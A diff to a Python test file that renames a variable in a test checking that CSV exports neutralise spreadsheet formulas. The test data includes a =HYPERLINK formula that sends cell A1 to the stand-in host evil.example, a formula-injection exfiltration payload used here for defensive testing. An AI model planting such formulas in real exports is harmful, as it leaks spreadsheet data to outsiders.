@@ -172,11 +172,11 @@ def test_safe_links_stay_links() -> None:
 
 
 def test_csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised() -> None:
-    titel = '=HYPERLINK("https://evil.example/?"&A1;"klik")'
-    casus = source("casussen/C01-x.yml", CASUS.replace("titel: Een moeder tussen de regels", f"titel: '{titel}'"))
+    title = '=HYPERLINK("https://evil.example/?"&A1;"klik")'
+    casus = source("casussen/C01-x.yml", CASUS.replace("titel: Een moeder tussen de regels", f"titel: '{title}'"))
     generated = generate(casus, *OTHERS)
     assert messages(generated) == []
     rows = list(csv.DictReader(io.StringIO(generated.pages["data/casussen.csv"])))
-    assert rows[0]["titel"] == "'" + titel
+    assert rows[0]["titel"] == "'" + title
     assert [export.neutralise_cell(c) for c in ("=1+1", "+31", "-2", "@SUM(A1)", "\tx", "\rx", "gewoon", "")] == [
         "'=1+1", "'+31", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "gewoon", ""]
